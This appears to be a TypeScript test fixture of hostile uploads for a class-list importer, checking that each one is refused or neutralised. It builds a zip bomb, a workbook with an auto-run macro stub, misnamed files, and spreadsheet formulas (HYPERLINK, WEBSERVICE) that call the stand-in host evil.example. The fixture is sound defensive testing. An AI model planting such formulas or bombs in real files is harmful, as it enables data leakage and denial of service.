import { deflateRawSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { packArchive, unpackArchive } from '../base/office-files/zip-archive.ts';
import { deflated } from './deflated.ts';

/** A file that is refused, with the one sentence about it. Without a status it stands at the field. */
type Refused = {
  readonly name: string;
  readonly file: () => Promise<Blob | Buffer> | Blob | Buffer;
  readonly en: string;
  readonly de: string;
  readonly status?: number;
};
/** A file that is read: what is shown of it, what may not be, and how many of its rows need somebody. */
type Taken = {
  readonly name: string;
  readonly file: () => Promise<Buffer> | Buffer;
  readonly reads: readonly string[];
  readonly never?: readonly string[];
  readonly asked: number;
};

const HEADINGS = ['Student number', 'Name', 'Result', 'Assessed on'];
const lines = (...names: string[]) => [HEADINGS.join(','), ...names.map((name, index) => `A${index},${name},pass,2026-11-19`)].join('\r\n');
const SHEET = 'xl/worksheets/sheet1.xml';

async function workbook(fill: (book: ExcelJS.Workbook) => void): Promise<Buffer> {
  const book = new ExcelJS.Workbook();
  fill(book);
  return Buffer.from(await book.xlsx.writeBuffer());
}
const classOf = (...rows: unknown[][]) =>
  workbook((book) => {
    book.addWorksheet('Class').addRows([HEADINGS, ...rows]);
  });
const partsOf = async () => unpackArchive(await classOf(['A1', 'Mira', 'pass', '2026-11-19']), () => true, 10_000_000);

/** A workbook whose first sheet is this XML, packed as small as it can be. */
async function sheetOf(xml: Buffer): Promise<Buffer> {
  const parts = await partsOf();
  parts.delete(SHEET);
  return deflated(parts, SHEET, xml, xml.length);
}
async function withPart(name: string, content: string): Promise<Buffer> {
  return packArchive(new Map([...(await partsOf()), [name, Buffer.from(content)]]));
}
const rowsOf = (count: number, row: string) => Buffer.from(`<worksheet><sheetData>${row.repeat(count)}</sheetData></worksheet>`);

const pngHead = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52]);
const notAList = [
  'This is not a class list; CSV, TSV and XLSX are read.',
  'Das ist keine Klassenliste; gelesen werden CSV, TSV und XLSX.',
] as const;
const [en, de] = notAList;

const refused: Readonly<Record<string, Refused>> = {
  'a zip bomb': {
    name: 'class.xlsx',
    file: () => sheetOf(Buffer.concat([Buffer.from('<worksheet>'), Buffer.alloc(70_000_000, 0x20)])),
    en: 'The workbook unpacks to more than 64 MB and was not opened.',
    de: 'Die Arbeitsmappe ist entpackt größer als 64 MB und wurde nicht geöffnet.',
  },
  'a workbook with macros': {
    name: 'class.xlsm',
    file: () => withPart('xl/vbaProject.bin', 'Sub Auto_Open()'),
    en: 'The workbook holds macros and was not opened',
    de: 'Die Arbeitsmappe enthält Makros und wurde nicht geöffnet',
  },
  'a picture under the name of a table': {
    name: 'class.csv',
    file: () => Buffer.concat([pngHead, deflateRawSync(Buffer.alloc(5_000))]),
    en,
    de,
  },
  'a PDF under the name of a workbook': {
    name: 'class.xlsx',
    file: () => Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n'),
    en,
    de,
  },
  'text under the name of a workbook that begins like one': {
    name: 'class.xlsx',
    file: () => Buffer.from('PK, Student number\n1, 2'),
    en: 'The workbook is damaged or not XLSX; save it again as XLSX or CSV.',
    de: 'Die Arbeitsmappe ist beschädigt oder kein XLSX; bitte neu als XLSX oder CSV speichern.',
  },
  'an empty file': { name: 'class.csv', file: () => Buffer.alloc(0), en: 'The class list is empty.', de: 'Die Klassenliste ist leer.' },
  'blanks and nothing else': {
    name: 'class.csv',
    file: () => Buffer.from(' \r\n \r\n'),
    en: 'The class list is empty.',
    de: 'Die Klassenliste ist leer.',
  },
  '100 MB': {
    name: 'class.csv',
    file: () => new Blob(Array.from({ length: 100 }, () => new Uint8Array(1_000_000).fill(0x41))),
    en: 'a page that takes a file says beside the file how large it may be',
    de: 'eine Seite, die eine Datei annimmt, sagt neben der Datei, wie groß sie sein darf',
    status: 413,
  },
  'a table with a NUL in it': { name: 'class.csv', file: () => Buffer.from(lines('Mi\u0000ra')), en, de },
  'headings alone': {
    name: 'class.csv',
    file: () => Buffer.from(lines()),
    en: 'The class list has headings and no rows.',
    de: 'Die Klassenliste hat Überschriften, aber keine Zeilen.',
  },
  'a workbook of a million rows': {
    name: 'class.xlsx',
    file: () => sheetOf(rowsOf(1_000_000, '<row r="1"/>')),
    en: 'The class list has more than 10000 rows; split it.',
    de: 'Die Klassenliste hat mehr als 10000 Zeilen; bitte aufteilen.',
  },
  'ten thousand columns': {
    name: 'class.csv',
    file: () => Buffer.from(`${Array.from({ length: 10_000 }, (_, index) => `C${index}`).join(',')}\n${'x,'.repeat(9_999)}x`),
    en: 'The class list has 10000 columns; at most 64 are read.',
    de: 'Die Klassenliste hat 10000 Spalten; höchstens 64 werden gelesen.',
  },
  'a workbook of ten thousand columns': {
    name: 'class.xlsx',
    file: () =>
      workbook((book) => {
        book.addWorksheet('Class').addRows([Array.from({ length: 10_000 }, (_, index) => `C${index}`), ['x']]);
      }),
    en: 'columns; at most 64 are read.',
    de: 'Spalten; höchstens 64 werden gelesen.',
  },
};

const taken: Readonly<Record<string, Taken>> = {
  'a table in UTF-16': {
    name: 'class.csv',
    file: () => Buffer.from(`\uFEFF${lines('Łucja Żółć', 'Γεώργιος')}`, 'utf16le'),
    reads: ['Łucja Żółć', 'Γεώργιος'],
    asked: 0,
  },
  'a table in UTF-16 from the other end, unmarked': {
    name: 'class.csv',
    file: () => Buffer.from(lines('Łucja Żółć'), 'utf16le').swap16(),
    reads: ['Łucja Żółć'],
    asked: 0,
  },
  'a table in Windows-1252': {
    name: 'class.csv',
    file: () => Buffer.from(lines('Jördis Müller', 'Zoë D\u0092Angelo'), 'latin1'),
    reads: ['Jördis Müller', 'Zoë D’Angelo', 'The file does not say how its letters are coded.'],
    asked: 0,
  },
  'a table in the Windows of Poland': {
    name: 'class.csv',
    file: () => Buffer.from(lines('Pawe\u00b3 Nowak'), 'latin1'),
    reads: ['Pawe³ Nowak', 'The file does not say how its letters are coded.', 'May be spelt otherwise'],
    asked: 1,
  },
  'a table that was coded twice': {
    name: 'class.csv',
    file: () => Buffer.from(lines(Buffer.from('Jördis Müller').toString('latin1'))),
    reads: ['May be spelt otherwise'],
    asked: 1,
  },
  'a workbook with formulas': {
    name: 'class.xlsx',
    file: () =>
      classOf(
        ['A1', { formula: 'HYPERLINK("http://evil.example","Mira")', result: 'Mira' }, 'pass', '2026-11-19'],
        ['A2', { formula: 'WEBSERVICE("http://evil.example")' }, 'pass', '2026-11-19'],
      ),
    reads: ['Mira', '=WEBSERVICE("http://evil.example")', 'A formula, which is not run here; the value it last showed is taken'],
    asked: 2,
  },
  'a workbook with links to others': {
    name: 'class.xlsx',
    file: async () => {
      const linked = await classOf(['A1', { formula: "'[1]Grades'!A1", result: 'Mira' }, 'pass', '2026-11-19']);
      const link =
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook r:id="rId1"/></externalLink>';
      return packArchive(
        new Map([...unpackArchive(linked, () => true, 10_000_000), ['xl/externalLinks/externalLink1.xml', Buffer.from(link)]]),
      );
    },
    reads: ['Mira', 'A formula, which is not run here'],
    asked: 1,
  },
  'a workbook of two sheets': {
    name: 'class.xlsx',
    file: () =>
      workbook((book) => {
        book.addWorksheet('Class').addRows([HEADINGS, ['A1', 'Mira', 'pass', '2026-11-19']]);
        book.addWorksheet('<x-evil> Old').addRows([HEADINGS, ['A2', 'Ola', 'pass', '2026-11-19']]);
      }),
    reads: ['Mira', 'These sheets hold rows too: <x-evil> Old'],
    never: ['Ola'],
    asked: 0,
  },
};

export const hostileLists = { refused, taken } as const;
